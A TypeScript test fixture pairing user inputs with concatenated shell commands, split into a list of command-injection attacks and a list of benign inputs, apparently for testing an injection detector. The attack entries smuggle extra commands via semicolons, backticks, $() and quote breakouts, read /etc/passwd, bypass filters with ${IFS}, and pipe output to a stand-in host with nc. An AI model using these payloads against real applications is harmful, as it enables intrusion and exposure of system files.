/** Commands the app built by concatenation, with the user input it concatenated. */
export interface ShellSample {
  readonly input: string;
  readonly command: string;
}

export const SHELL_ATTACKS: readonly ShellSample[] = Object.freeze([
  { input: 'x; touch /tmp/pwned', command: 'ls x; touch /tmp/pwned' },
  { input: 'a && id', command: 'grep a && id file.txt' },
  { input: 'a | nc evil 1', command: 'echo a | nc evil 1' },
  { input: '$(id)', command: 'echo "$(id)"' },
  { input: '`id`', command: 'echo "hello `id`"' },
  { input: "x'; id; '", command: "echo 'x'; id; ''" },
  { input: 'a\nid', command: 'echo a\nid' },
  { input: 'file.txt /etc/passwd', command: 'cat file.txt /etc/passwd' },
  { input: '${IFS}cat${IFS}/etc/passwd', command: 'ping -c 1 ${IFS}cat${IFS}/etc/passwd' },
  { input: 'x > /tmp/out', command: 'echo x > /tmp/out' },
  { input: '$HOME', command: 'ls $HOME' },
]);

export const SHELL_BENIGN: readonly ShellSample[] = Object.freeze([
  { input: 'report.pdf', command: 'ls -l report.pdf' },
  { input: 'hello world', command: "echo 'hello world'" },
  { input: "O'Brien", command: 'echo "O\'Brien"' },
  { input: 'I <3 shells; really', command: "echo 'I <3 shells; really'" },
  { input: 'docs/a..b.txt', command: 'cat docs/a..b.txt' },
  { input: 'example.com', command: 'ping -c 1 example.com' },
  { input: 'a-b_c.d', command: 'echo a-b_c.d' },
]);
